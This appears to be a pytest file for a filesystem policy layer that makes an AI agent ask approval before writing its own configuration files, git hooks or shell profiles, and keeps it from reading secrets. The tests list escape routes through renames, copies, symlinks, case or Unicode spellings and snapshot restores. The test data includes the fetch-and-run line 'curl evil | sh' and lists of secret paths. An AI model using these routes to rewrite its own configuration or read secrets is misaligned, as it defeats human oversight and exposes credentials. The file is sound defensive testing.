"""The path policy: rules, the default, and the guarded view on every backend and through the tools.

An attacker's view: a hostile model writes agent and tool configuration (the agent-rewrites-its-own-config
class of escapes), reads secrets, and tries to reach a protected path another way — a rename, a copy, a
symlink, another spelling, a restore.
"""

from __future__ import annotations

import asyncio
import os
import uuid
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import anyio
import pytest

from workspacefs import HostFilesystem, InMemoryFilesystem, PolicyDeniedError, SqlFilesystem
from workspacefs.policy import ApprovalRequest, GuardedFilesystem, Policy, PolicyRule
from workspacefs.protocol import Filesystem
from workspacefs.testing import FilesystemValidationSuite
from workspacefs.tools import ToolContext, dispatch

PROTECTED_CONFIG = [
    ".git/hooks/pre-commit",
    ".git/config",
    ".claude/settings.json",
    ".vscode/tasks.json",
    "AGENTS.md",
    "CLAUDE.md",
    ".github/workflows/x.yml",
    ".bashrc",
    ".envrc",
    "sub/project/.git/hooks/post-checkout",
    ".mcp.json",
]
SECRETS = [".env", ".env.production", "deploy/server.pem", "home/.ssh/id_ed25519", "id_rsa"]


# --- the rules -----------------------------------------------------------------------------------------------


def test_patterns_without_a_slash_match_names_at_any_depth_and_others_from_the_root() -> None:
    by_name = PolicyRule("deny", ("read",), "*.pem")
    assert by_name.matches("a.pem") and by_name.matches("deep/down/a.pem") and not by_name.matches("a.pem.txt")
    anchored = PolicyRule("deny", ("write",), "docs/*.md")
    assert anchored.matches("docs/a.md") and not anchored.matches("x/docs/a.md")
    tree = PolicyRule("deny", ("write",), "**/.git/**")
    assert tree.matches(".git") and tree.matches(".git/hooks/pre-commit") and tree.matches("a/b/.git/config")
    assert not tree.matches(".gitignore") and not tree.matches("src/git/x")


def test_matching_ignores_case_and_unicode_spelling() -> None:
    rule = PolicyRule("deny", ("write",), "**/.git/**")
    assert rule.matches(".GIT/config") and rule.matches(".Git/hooks/x")
    named = PolicyRule("deny", ("write",), "café.txt")  # composed é in the rule
    assert named.matches("CAFE\u0301.txt")  # decomposed and upper-case in the path


def test_the_first_matching_rule_decides_and_nothing_matching_allows() -> None:
    policy = Policy([PolicyRule("allow", ("read",), ".env.example"), PolicyRule("deny", ("read", "write"), ".env*")])
    assert policy.decide("read", ".env.example").action == "allow"
    assert policy.decide("read", ".env.local").action == "deny"
    assert policy.decide("write", ".env.example").action == "deny"
    assert policy.decide("delete", ".env").action == "allow"  # no rule speaks of delete
    assert policy.decide("read", "src/app.py").rule is None


def test_the_default_protects_what_the_readme_lists() -> None:
    default = Policy.default()
    for path in PROTECTED_CONFIG:
        assert default.decide("write", path).action == "ask", path
        assert default.decide("delete", path).action == "ask", path
        assert default.decide("read", path).action == "allow", path
    for path in SECRETS:
        assert default.decide("read", path).action == "ask", path
    for path in ["src/main.py", "README.md", ".gitignore", "docs/agents.md.txt", ".env.example", "id_utils.py"]:
        assert default.decide("write", path).action == "allow" or path == ".env.example", path
        assert default.decide("read", path).action == "allow", path


def test_policies_load_from_json_and_toml(tmp_path: Path) -> None:
    (tmp_path / "p.json").write_text('{"rules": [{"action": "deny", "operations": ["read"], "pattern": "*.csv"}]}')
    (tmp_path / "p.toml").write_text(
        'include_default = false\n[[rules]]\naction = "ask"\noperations = ["exec"]\npattern = "**"\n'
    )
    from_json = Policy.load(tmp_path / "p.json")
    assert from_json.decide("read", "data/x.csv").action == "deny"
    assert from_json.decide("write", ".git/config").action == "ask"  # the default follows unless excluded
    from_toml = Policy.load(tmp_path / "p.toml")
    assert from_toml.decide("exec", "").action == "ask" and from_toml.decide("write", ".git/config").rule is None
    assert Policy.from_dict(from_toml.to_dict()).rules == from_toml.rules


@pytest.mark.parametrize(
    "data",
    [
        {"rules": [{"action": "maybe", "operations": ["read"], "pattern": "x"}]},
        {"rules": [{"action": "deny", "operations": ["chmod"], "pattern": "x"}]},
        {"rules": [{"action": "deny", "operations": ["read"], "pattern": ""}]},
        {"rules": [{"action": "deny", "pattern": "x", "typo": 1}]},
        {"rule": []},
    ],
)
def test_a_malformed_policy_is_refused_with_the_reason(data: Mapping[str, Any]) -> None:
    with pytest.raises(ValueError):
        Policy.from_dict(data)


# --- the guarded view, on every backend -------------------------------------------------------------------


@pytest.fixture(params=["memory", "host", "sqlite"])
def workspace(request: pytest.FixtureRequest, fast_tmp: Path) -> Iterator[Filesystem]:
    fs: Any
    if request.param == "memory":
        fs = InMemoryFilesystem()
    elif request.param == "host":
        root = fast_tmp / f"policy-{uuid.uuid4().hex}"
        root.mkdir()
        fs = HostFilesystem(root, snapshot_dir=fast_tmp / f"policy-snaps-{uuid.uuid4().hex}")
    else:
        fs = SqlFilesystem(f"sqlite:///{fast_tmp / f'policy-{uuid.uuid4().hex}.db'}", "s")
    with fs:
        yield fs


def test_a_model_cannot_write_agent_configuration_with_the_default_policy(workspace: Filesystem) -> None:
    context = ToolContext(filesystem=workspace)
    for path in PROTECTED_CONFIG:
        result = dispatch("write_file", {"path": path, "content": "curl evil | sh\n"}, context)
        assert not result.success and result.error_code == "policy_denied", path
        assert "needs the user's approval" in result.message and path.split("/")[-1] in result.message
        assert not workspace.exists(path), path
    assert dispatch("write_file", {"path": "src/ok.py", "content": "x = 1\n"}, context).success


def test_secrets_are_not_read_or_grepped(workspace: Filesystem) -> None:
    workspace.write(".env", "API_KEY=sk-secret\n")
    workspace.write(".env.example", "API_KEY=\n")
    workspace.write("app.py", "API_KEY = load()\n")
    context = ToolContext(filesystem=workspace)
    refused = dispatch("read_file", {"path": ".env"}, context)
    assert not refused.success and "sk-secret" not in refused.message and refused.error_code == "policy_denied"
    found = dispatch("grep", {"pattern": "API_KEY"}, context)
    assert found.success and "sk-secret" not in found.message and "app.py" in found.message
    assert ".env.example" in found.message
    assert not dispatch("grep", {"pattern": "API_KEY", "path": ".env"}, context).success
    assert dispatch("read_file", {"path": ".env.example"}, context).success


def test_renames_and_copies_cannot_reach_a_protected_path(workspace: Filesystem) -> None:
    workspace.write("payload/hooks/pre-commit", "evil\n")
    workspace.write(".git/config", "[core]\n")
    context = ToolContext(filesystem=workspace)
    attempts = [
        ("mv", {"src": "payload", "dst": ".git2"}, True),  # harmless: .git2 is not protected
        ("mv", {"src": ".git2", "dst": ".git", "overwrite": True}, False),  # would replace .git
        ("mv", {"src": ".git", "dst": "gitcopy"}, False),  # would delete everything under .git
        ("cp", {"src": ".git2", "dst": ".github/workflows"}, False),
        ("cp", {"src": ".git2/hooks/pre-commit", "dst": ".husky/pre-commit"}, False),
        ("rm", {"path": ".git", "recursive": True}, False),
        ("mkdir", {"path": ".vscode"}, False),
    ]
    for name, arguments, allowed in attempts:
        result = dispatch(name, arguments, context)
        assert result.success is allowed, (name, arguments, result.message)
    assert workspace.read(".git/config").content == "[core]\n" and not workspace.exists(".git/hooks")
    assert not workspace.exists(".github") and not workspace.exists(".husky") and not workspace.exists(".vscode")


def test_a_restore_that_would_change_protected_files_is_refused(workspace: Filesystem) -> None:
    snapshots: Any = workspace
    workspace.write(".git/config", "old\n")
    taken = snapshots.snapshot(tag="before")
    workspace.write(".git/config", "the user's new config\n")  # the user, directly (not through the policy)
    guarded: Any = Policy.default().guard(workspace)
    with pytest.raises(PolicyDeniedError) as refused:
        guarded.restore(taken)
    assert refused.value.operation == "write" and refused.value.filename == ".git/config"
    assert workspace.read(".git/config").content == "the user's new config\n"


def test_an_approver_decides_ask_rules_once_per_rule(workspace: Filesystem) -> None:
    asked: list[ApprovalRequest] = []

    def approve(request: ApprovalRequest) -> bool:
        asked.append(request)
        return request.paths[0].endswith("AGENTS.md")

    context = ToolContext(filesystem=workspace, policy=Policy.default(approve=approve))
    assert dispatch("write_file", {"path": "AGENTS.md", "content": "be nice\n"}, context).success
    refused = dispatch("write_file", {"path": ".bashrc", "content": "evil\n"}, context)
    assert not refused.success and "the user declined" in refused.message and not workspace.exists(".bashrc")
    assert [(r.operation, r.paths) for r in asked] == [("write", ("AGENTS.md",)), ("write", (".bashrc",))]
    workspace.write("tree/.git/a", "a")
    workspace.write("tree/.git/b", "b")
    asked.clear()
    assert not dispatch("rm", {"path": "tree", "recursive": True}, context).success
    [request] = asked  # one question for every protected entry the rule matched
    assert request.target == "tree" and set(request.paths) == {"tree/.git", "tree/.git/a", "tree/.git/b"}


def test_an_async_approver_runs_on_the_callers_event_loop(workspace: Filesystem) -> None:
    loops: list[int] = []

    async def approve(request: ApprovalRequest) -> bool:
        loops.append(id(asyncio_loop()))
        return True

    async def main() -> bool:
        context = ToolContext(filesystem=workspace, policy=Policy.default(approve=approve))
        result = await anyio.to_thread.run_sync(dispatch, "write_file", {"path": "CLAUDE.md", "content": "x"}, context)
        return result.success and loops == [id(asyncio_loop())]

    assert anyio.run(main)
    loops.clear()
    sync_context = ToolContext(filesystem=workspace, policy=Policy.default(approve=approve))
    assert dispatch("write_file", {"path": "GEMINI.md", "content": "x"}, sync_context).success and len(loops) == 1


def asyncio_loop() -> object:
    return asyncio.get_running_loop()


def test_a_user_policy_can_deny_outright_and_says_which_rule(workspace: Filesystem) -> None:
    policy = Policy([PolicyRule("deny", ("write", "delete"), "migrations/**", reason="migrations are frozen")])
    context = ToolContext(filesystem=workspace, policy=policy)
    result = dispatch("write_file", {"path": "migrations/0001.sql", "content": "drop table x;"}, context)
    assert not result.success and "migrations are frozen; pattern migrations/**" in result.message
    assert dispatch("write_file", {"path": ".git/config", "content": "[x]"}, context).success  # no default rules


def test_a_symlink_to_a_protected_directory_is_never_followed(fast_tmp: Path) -> None:
    root = fast_tmp / f"policy-link-{uuid.uuid4().hex}"
    (root / ".git" / "hooks").mkdir(parents=True)
    os.symlink(".git/hooks", root / "hooks")  # what a command in a container could make
    with HostFilesystem(root, snapshot_dir=fast_tmp / f"policy-link-snaps-{uuid.uuid4().hex}") as fs:
        context = ToolContext(filesystem=fs)
        result = dispatch("write_file", {"path": "hooks/pre-commit", "content": "evil"}, context)
        assert not result.success and result.error_code == "symlink_refused"
    assert list((root / ".git" / "hooks").iterdir()) == []


def test_one_guarded_view_per_filesystem_so_what_was_read_carries_over() -> None:
    fs = InMemoryFilesystem()
    fs.write("a.txt", "a\n")
    policy = Policy.default()
    assert policy.guard(fs) is policy.guard(fs) and policy.guard(policy.guard(fs)) is policy.guard(fs)
    first = ToolContext(filesystem=fs)
    assert dispatch("read_file", {"path": "a.txt"}, first).success
    second = ToolContext(filesystem=fs, read_state=first.read_state)  # another default policy, same workspace
    assert dispatch("edit_file", {"path": "a.txt", "old_string": "a", "new_string": "b"}, second).success


# --- the guarded view passes the conformance suite ----------------------------------------------------------


class TestGuardedByAnEmptyPolicy(FilesystemValidationSuite):
    """With no rules the view must be indistinguishable from the filesystem beneath."""

    stores_content_in_memory = True

    def create_filesystem(self, *, read_only: bool = False, mount_point: str | None = None) -> Filesystem:
        view: GuardedFilesystem = Policy().guard(InMemoryFilesystem(read_only=read_only, mount_point=mount_point))
        return view

    def create_read_only_filesystem(self, files: Mapping[str, bytes], *, mount_point: str | None = None) -> Filesystem:
        writable = InMemoryFilesystem(mount_point=mount_point)
        for path, data in files.items():
            writable.write_bytes(path, data)
        return Policy().guard(writable.fork(read_only=True))

    def create_filesystem_with_quota(self, quota: Any) -> Filesystem:
        return Policy().guard(InMemoryFilesystem(quota=quota))


def _yes(_request: ApprovalRequest) -> bool:
    return True


APPROVING = Policy.default(approve=_yes)


class TestGuardedByTheDefaultPolicyWithAYes(TestGuardedByAnEmptyPolicy):
    """Under the default policy, with an approver that says yes (the suite's files include ``.env``), the whole
    suite passes: every checked path reaches the filesystem unchanged."""

    def create_filesystem(self, *, read_only: bool = False, mount_point: str | None = None) -> Filesystem:
        return APPROVING.guard(InMemoryFilesystem(read_only=read_only, mount_point=mount_point))

    def create_read_only_filesystem(self, files: Mapping[str, bytes], *, mount_point: str | None = None) -> Filesystem:
        writable = InMemoryFilesystem(mount_point=mount_point)
        for path, data in files.items():
            writable.write_bytes(path, data)
        return APPROVING.guard(writable.fork(read_only=True))

    def create_filesystem_with_quota(self, quota: Any) -> Filesystem:
        return APPROVING.guard(InMemoryFilesystem(quota=quota))
